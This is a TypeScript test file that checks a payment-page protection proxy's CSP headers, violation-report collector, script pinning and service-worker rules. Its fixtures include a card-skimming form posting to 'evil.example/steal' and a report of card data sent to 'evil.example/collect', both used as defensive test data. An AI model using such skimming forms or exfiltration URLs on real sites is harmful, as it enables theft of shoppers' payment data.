/**
 * The second layer through a running payguard over real HTTP on 127.0.0.1 (no browser): the
 * headers every inspected document gets, the report collector, first-party pinning, service
 * workers and SRI attributes. The browser's side of the same is in chromium.test.ts.
 */
import { gzipSync } from 'node:zlib';
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parsePolicyText } from '../../src/policy/parse.js';
import { compilePolicy } from '../../src/policy/compiled.js';
import { cspValue } from '../../src/policy/csp.js';
import { MAX_REPORT_BYTES } from '../../src/proxy/browser/report-collector.js';
import { REPORT_RATE } from '../../src/proxy/browser/layer.js';
import { startStorefront, type Storefront } from '../helpers/upstreams.js';
import { Scrape } from '../observe/prom.js';
import { NAVIGATION, startHarness, SUBRESOURCE, type Harness } from '../proxy/support.js';
import { GUARD_HASH_SOURCE } from '../../src/proxy/browser/navigation-guard.js';

/** payguard's CSP on a protected HTML page: its script-src also allows the navigation guard by hash. */
const withGuard = (csp: string): string => csp.replace('script-src ', `script-src ${GUARD_HASH_SOURCE} `);
import { CHECKOUT_JS, fixture, policyYaml, sri, TAMPERED_CHECKOUT_JS, TOKENIZER_JS } from './world.js';

const ORIGINS = { site: 'https://shop.example', gateway: 'https://pay.gateway.example', attacker: 'https://evil.example' };
const YAML = policyYaml(ORIGINS, { clearSiteData: true });
const POLICY = parsePolicyText(YAML, 'policy.yaml');
const REPORT_URL = 'https://shop.example/.well-known/payguard/csp-report';
const HTML = ['content-type', 'text/html; charset=utf-8'] as const;
const JS = ['content-type', 'text/javascript'] as const;
const UPSTREAM_CSP = "default-src https: 'unsafe-inline'";

describe('the second layer through payguard', () => {
  let storefront: Storefront;
  let harness: Harness;
  const get = (path: string, headers: Record<string, string> = NAVIGATION) => request(`${harness.payguard.publicUrl}${path}`, { headers });
  const scrape = async (): Promise<Scrape> => new Scrape(await (await request(`${harness.payguard.adminUrl}/metrics`)).body.text());
  const postReport = (body: string | Buffer, contentType: string, headers: Record<string, string> = {}) =>
    request(`${harness.payguard.publicUrl}/.well-known/payguard/csp-report`, { method: 'POST', body, headers: { 'content-type': contentType, ...headers } });

  beforeAll(async () => {
    storefront = await startStorefront({
      '/checkout/pay': {
        headers: [HTML, ['content-security-policy', UPSTREAM_CSP], ['x-frame-options', 'SAMEORIGIN']],
        body: fixture('checkout.html'),
      },
      '/plain/page': { headers: [HTML], body: '<!DOCTYPE html><p>no CSP here</p>' },
      '/catalogue': { headers: [HTML], body: '<!DOCTYPE html><p>catalogue</p>' },
      '/cart': {
        headers: [HTML],
        body: '<!DOCTYPE html><script src="https://pay.gateway.example/v3/token.js"></script><form action="https://evil.example/steal"><input name=cc></form>',
      },
      '/static/checkout.js': { headers: [JS], body: CHECKOUT_JS },
      '/static/other.js': { headers: [JS], body: 'void 0;' },
      '/static/sw.js': { headers: [JS], body: 'self.addEventListener("fetch", () => {});' },
      '/evil-sw.js': { headers: [JS], body: 'self.addEventListener("fetch", () => {});' },
    });
    harness = await startHarness(storefront, { policyYaml: YAML });
  });
  afterAll(async () => {
    await harness?.stop();
    await storefront?.close();
  });

  describe('headers of an inspected document', () => {
    it("carries payguard's CSP next to the storefront's own, and the Reporting API endpoint", async () => {
      const res = await get('/checkout/pay');
      await res.body.text();
      expect(res.statusCode).toBe(200);
      const csp = res.headers['content-security-policy'];
      // Two lines, two policies: the browser enforces both (CSP3 §4.1), so nothing gets looser.
      // The navigation guard payguard put first in <head> is allowed by its hash (navigation-guard.ts).
      expect(csp).toEqual([UPSTREAM_CSP, withGuard(cspValue(POLICY, compilePolicy(POLICY).route('/checkout/pay').route, REPORT_URL))]);
      expect(res.headers['reporting-endpoints']).toBe(`payguard-csp="${REPORT_URL}"`);
      expect(res.headers['integrity-policy-report-only']).toBe('blocked-destinations=(script), endpoints=(payguard-csp)');
    });

    it('adds a missing baseline header, keeps and counts a differing one, and sends Clear-Site-Data when the policy says so', async () => {
      const res = await get('/checkout/pay');
      await res.body.text();
      expect(res.headers['referrer-policy']).toBe('no-referrer');
      expect(res.headers['x-frame-options']).toBe('SAMEORIGIN');
      expect(res.headers['clear-site-data']).toBe('"storage"');
      expect((await scrape()).value('payguard_header_drift_total', { route: '/checkout/**', header: 'x-frame-options' })).toBeGreaterThanOrEqual(1);
      const drift = harness.logLines().find((l) => l['event'] === 'header-drift');
      expect(drift).toMatchObject({ header: 'x-frame-options', expected: 'DENY', actual: 'SAMEORIGIN', route: '/checkout/**' });
    });

    it('is report-only on report routes, absent where the route turns it off, and no Clear-Site-Data off protected routes', async () => {
      const report = await get('/catalogue');
      await report.body.text();
      expect(report.headers['content-security-policy']).toBeUndefined();
      expect(report.headers['content-security-policy-report-only']).toBe(cspValue(POLICY, compilePolicy(POLICY).route('/catalogue').route, REPORT_URL));
      expect(report.headers['clear-site-data']).toBeUndefined();
      const plain = await get('/plain/page');
      await plain.body.text();
      expect(plain.headers['content-security-policy']).toBeUndefined();
      expect(plain.headers['content-security-policy-report-only']).toBeUndefined();
    });

    it('pins the third-party tokenizer with integrity and crossorigin in the page it serves', async () => {
      const res = await get('/checkout/pay');
      const body = await res.body.text();
      expect(body).toContain(`<script integrity="${sri('sha384', TOKENIZER_JS)}" crossorigin="anonymous" src="https://pay.gateway.example/v3/token.js">`);
      expect(res.headers['content-length']).toBe(String(Buffer.byteLength(body)));
      expect(res.headers['etag']).toBeUndefined();
    });
  });

  it('pins the tokenizer in a rewritten page too (rewrite route), with the foreign form neutralised', async () => {
    const res = await get('/cart');
    const body = await res.body.text();
    expect(res.statusCode).toBe(200);
    expect(body).toContain(`<script integrity="${sri('sha384', TOKENIZER_JS)}" crossorigin="anonymous" src=`);
    expect(body).not.toContain('evil.example');
    expect(res.headers['content-security-policy']).toBe(withGuard(cspValue(POLICY, compilePolicy(POLICY).route('/cart').route, REPORT_URL)));
  });

  describe('the report collector', () => {
    const legacy = (blocked: string, source = 'https://shop.example/static/checkout.js') =>
      JSON.stringify({ 'csp-report': { 'document-uri': 'https://shop.example/checkout/pay?order=77', 'effective-directive': 'connect-src', 'blocked-uri': blocked, 'source-file': source, disposition: 'enforce' } });

    it('counts and logs a legacy report without its query string, and never forwards it', async () => {
      const before = storefront.requests.length;
      const res = await postReport(legacy('https://evil.example/collect?cc=4111111111111111'), 'application/csp-report');
      await res.body.text();
      expect(res.statusCode).toBe(204);
      expect((await scrape()).value('payguard_csp_reports_total', { directive: 'connect-src', blocked_origin: 'https://evil.example' })).toBe(1);
      const line = harness.logLines().find((l) => l['event'] === 'csp-report');
      expect(line).toMatchObject({ directive: 'connect-src', blocked: 'https://evil.example/collect', document: 'https://shop.example/checkout/pay' });
      expect(harness.logText()).not.toContain('4111111111111111');
      expect(harness.logText()).not.toContain('order=77');
      expect(storefront.requests.length).toBe(before);
    });

    it('takes a Reporting API batch and drops browser-extension noise', async () => {
      const batch = JSON.stringify([
        { type: 'csp-violation', url: 'https://shop.example/checkout/pay', body: { documentURL: 'https://shop.example/checkout/pay', blockedURL: 'https://evil.example/f', effectiveDirective: 'form-action', disposition: 'enforce' } },
        { type: 'csp-violation', url: 'https://shop.example/checkout/pay', body: { documentURL: 'https://shop.example/checkout/pay', blockedURL: 'chrome-extension://abcdef/inject.js', effectiveDirective: 'script-src-elem' } },
      ]);
      const res = await postReport(batch, 'application/reports+json');
      await res.body.text();
      expect(res.statusCode).toBe(204);
      const s = await scrape();
      expect(s.value('payguard_csp_reports_total', { directive: 'form-action', blocked_origin: 'https://evil.example' })).toBe(1);
      expect(s.value('payguard_csp_reports_total', { directive: 'script-src-elem' })).toBe(0);
    });

    it('refuses other methods, other types, and bodies over the size limit', async () => {
      expect((await get('/.well-known/payguard/csp-report', SUBRESOURCE)).statusCode).toBe(405);
      const wrongType = await postReport(legacy('https://evil.example/'), 'text/plain');
      expect(wrongType.statusCode).toBe(400);
      const huge = await postReport(Buffer.alloc(MAX_REPORT_BYTES + 1, 0x20), 'application/csp-report');
      expect(huge.statusCode).toBe(413);
    });

    it('compares script hashes the browser reports with what payguard served', async () => {
      const js = await get('/static/checkout.js', SUBRESOURCE);
      await js.body.text();
      const hashReport = (hash: string) =>
        JSON.stringify([{ type: 'csp-hash', url: 'https://shop.example/checkout/pay', body: { documentURL: 'https://shop.example/checkout/pay', subresourceURL: 'https://shop.example/static/checkout.js', hash, type: 'subresource', destination: 'script' } }]);
      await (await postReport(hashReport(sri('sha256', CHECKOUT_JS)), 'application/reports+json')).body.text();
      expect((await scrape()).value('payguard_browser_mismatch_total')).toBe(0);
      await (await postReport(hashReport(sri('sha256', TAMPERED_CHECKOUT_JS)), 'application/reports+json')).body.text();
      expect((await scrape()).value('payguard_browser_mismatch_total', { against: 'served', origin: 'https://shop.example' })).toBe(1);
      expect(harness.logLines().find((l) => l['event'] === 'browser-mismatch')).toMatchObject({ against: 'served', script: 'https://shop.example/static/checkout.js' });
    });

    it('rate-limits each client (429 once its bucket is empty)', async () => {
      const statuses: number[] = [];
      for (let i = 0; i < REPORT_RATE.burst + 5; i++) {
        const res = await postReport('[]', 'application/reports+json');
        await res.body.text();
        statuses.push(res.statusCode);
      }
      expect(statuses).toContain(429);
      expect(statuses.filter((s) => s === 204).length).toBeLessThanOrEqual(REPORT_RATE.burst);
    });
  });

  describe('first-party pinning', () => {
    it('serves the pinned script when it matches, whatever Sec-Fetch-Dest says', async () => {
      for (const headers of [SUBRESOURCE, NAVIGATION, {}]) {
        const res = await get('/static/checkout.js', headers);
        expect(res.statusCode).toBe(200);
        expect(Buffer.from(await res.body.arrayBuffer())).toEqual(CHECKOUT_JS);
      }
    });

    it('hashes the decoded body of a compressed script and passes the coded bytes on', async () => {
      const gz = gzipSync(CHECKOUT_JS);
      storefront.page('/static/checkout.js', { headers: [JS, ['content-encoding', 'gzip']], body: gz });
      try {
        const res = await get('/static/checkout.js', SUBRESOURCE);
        expect(res.statusCode).toBe(200);
        expect(res.headers['content-encoding']).toBe('gzip');
        expect(Buffer.from(await res.body.arrayBuffer())).toEqual(gz);
      } finally {
        storefront.page('/static/checkout.js', { headers: [JS], body: CHECKOUT_JS });
      }
    });

    it('blocks a tampered pinned script with 502, counted and logged with both hashes', async () => {
      storefront.page('/static/checkout.js', { headers: [JS], body: TAMPERED_CHECKOUT_JS });
      try {
        const res = await get('/static/checkout.js', SUBRESOURCE);
        const body = await res.body.text();
        expect(res.statusCode).toBe(502);
        expect(body).not.toContain('skimmed');
        expect((await scrape()).value('payguard_blocked_responses_total', { reason: 'tampered-script' })).toBeGreaterThanOrEqual(1);
        expect(harness.logLines().find((l) => l['event'] === 'script-pin-mismatch')).toMatchObject({
          path: '/static/checkout.js',
          expected: [sri('sha384', CHECKOUT_JS)],
          actual: sri('sha384', TAMPERED_CHECKOUT_JS),
        });
      } finally {
        storefront.page('/static/checkout.js', { headers: [JS], body: CHECKOUT_JS });
      }
    });

    it('answers HEAD for a pinned script with the headers GET would get, after verifying the body', async () => {
      const res = await request(`${harness.payguard.publicUrl}/static/checkout.js`, { method: 'HEAD', headers: SUBRESOURCE });
      await res.body.text();
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-length']).toBe(String(CHECKOUT_JS.length));
      expect(storefront.requestsFor('/static/checkout.js').at(-1)?.method).toBe('GET');
    });

    it('passes scripts the policy does not pin on untouched', async () => {
      const res = await get('/static/other.js', SUBRESOURCE);
      expect(res.statusCode).toBe(200);
      expect(await res.body.text()).toBe('void 0;');
    });
  });

  describe('service workers', () => {
    const WORKER = { ...SUBRESOURCE, 'sec-fetch-dest': 'serviceworker', 'service-worker': 'script' };

    it('serves a worker script the policy names', async () => {
      const res = await get('/static/sw.js', WORKER);
      expect(res.statusCode).toBe(200);
      await res.body.text();
    });

    it('refuses a worker script the policy does not name, without asking the storefront', async () => {
      const before = storefront.requestsFor('/evil-sw.js').length;
      const res = await get('/evil-sw.js', WORKER);
      await res.body.text();
      expect(res.statusCode).toBe(502);
      expect(storefront.requestsFor('/evil-sw.js').length).toBe(before);
      // The same file fetched as an ordinary script is not a worker and passes.
      expect((await get('/evil-sw.js', SUBRESOURCE)).statusCode).toBe(200);
    });

    it('refuses a named worker whose Service-Worker-Allowed header widens its scope past its directory', async () => {
      storefront.page('/static/sw.js', { headers: [JS, ['service-worker-allowed', '/static/offline/']], body: 'void 0;' });
      const narrowed = await get('/static/sw.js', WORKER);
      await narrowed.body.text();
      expect(narrowed.statusCode).toBe(200);
      storefront.page('/static/sw.js', { headers: [JS, ['service-worker-allowed', '/']], body: 'void 0;' });
      const widened = await get('/static/sw.js', WORKER);
      await widened.body.text();
      expect(widened.statusCode).toBe(502);
      expect((await scrape()).value('payguard_blocked_responses_total', { reason: 'service-worker' })).toBeGreaterThanOrEqual(2);
    });
  });
});
